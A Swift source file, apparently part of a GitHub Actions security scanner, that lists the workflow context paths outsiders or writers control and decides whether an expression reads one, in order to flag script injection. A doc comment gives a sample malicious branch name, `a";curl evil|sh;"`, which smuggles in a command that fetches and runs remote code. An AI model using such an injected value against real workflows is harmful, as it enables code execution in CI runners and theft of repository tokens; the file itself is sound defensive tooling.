/// Which context values of a workflow run anyone who can open an issue, a pull request or a
/// comment can choose: titles, bodies, branch names, commit messages and author names. Expanded
/// into a script with `${{ }}`, such a value becomes code (a branch named `a";curl evil|sh;"`).
public enum GitHubContexts {
    /// Dotted context paths, lower-cased, `*` standing for any one segment (a list index or a key).
    public static let attackerControlledPatterns: [String] = [
        "github.head_ref",
        "github.event.issue.title", "github.event.issue.body",
        "github.event.pull_request.title", "github.event.pull_request.body",
        "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
        "github.event.pull_request.head.repo.default_branch", "github.event.pull_request.head.repo.description",
        "github.event.pull_request.head.repo.homepage",
        "github.event.comment.body", "github.event.review.body", "github.event.review_comment.body",
        "github.event.discussion.title", "github.event.discussion.body",
        "github.event.pages.*.page_name",
        "github.event.commits.*.message", "github.event.commits.*.author.email", "github.event.commits.*.author.name",
        "github.event.commits.*.committer.email", "github.event.commits.*.committer.name",
        "github.event.head_commit.message", "github.event.head_commit.author.email",
        "github.event.head_commit.author.name", "github.event.head_commit.committer.email",
        "github.event.head_commit.committer.name",
        "github.event.workflow_run.head_branch", "github.event.workflow_run.display_title",
        "github.event.workflow_run.head_commit.message", "github.event.workflow_run.head_commit.author.email",
        "github.event.workflow_run.head_commit.author.name", "github.event.workflow_run.pull_requests.*.head.ref",
        "github.event.workflow_run.head_repository.description",
        "github.event.check_suite.head_branch", "github.event.check_run.check_suite.head_branch",
        "github.event.merge_group.head_commit.message", "github.event.release.name", "github.event.release.body",
        "github.event.release.tag_name",
        // What an issue, pull request, comment or discussion said before it was edited.
        "github.event.changes.*",
    ]

    /// Values chosen by people with less power than the workflow's token but more than an
    /// outsider: branch and tag names (anyone who can push a branch, or open a pull request from
    /// one, names it), and the inputs of a manual or reusable run (whoever runs or calls it).
    public static let writerControlledPatterns: [String] = [
        "github.ref", "github.ref_name", "github.base_ref", "github.event.ref", "github.event.base_ref",
        "github.event.pull_request.base.ref", "github.event.pull_request.base.label", "inputs.*",
        "github.event.inputs.*", "github.event.client_payload.*",
    ]

    private static let patterns: [[Substring]] = attackerControlledPatterns.map { $0.split(separator: ".") }
    private static let writerPatterns: [[Substring]] = writerControlledPatterns.map { $0.split(separator: ".") }

    /// Who chooses the value a context path reads: `outsider` (`isAttackerControlled`),
    /// `writer` (branch and tag names, workflow inputs), or `""` for values GitHub or the
    /// repository's own configuration sets.
    public static func control(_ path: String) -> String {
        if isAttackerControlled(path) { return "outsider" }
        let segments = path.lowercased().split(separator: ".")
        // Exactly the value or something inside it; an object holding it is counted above only.
        let writer = writerPatterns.contains { pattern in
            segments.count >= pattern.count
                && zip(pattern, segments).allSatisfy { $0 == "*" || $1 == "*" || $0 == $1 }
        }
        return writer ? "writer" : ""
    }

    /// Whether the context path (as `WorkflowExpression.contextPaths` gives it) reads a value an
    /// outsider controls, or an object that contains one (`toJSON(github.event.pull_request)`).
    public static func isAttackerControlled(_ path: String) -> Bool {
        let segments = path.lowercased().split(separator: ".")
        guard segments.count >= 1 else { return false }
        return patterns.contains { pattern in
            // The path reads the pattern's value, something inside it, or an object holding it.
            let shared = min(pattern.count, segments.count)
            guard segments.count >= 2 || pattern.count >= 2 else { return false }
            for index in 0..<shared
            where pattern[index] != "*" && segments[index] != "*" && pattern[index] != segments[index] {
                return false
            }
            return true
        }
    }
}
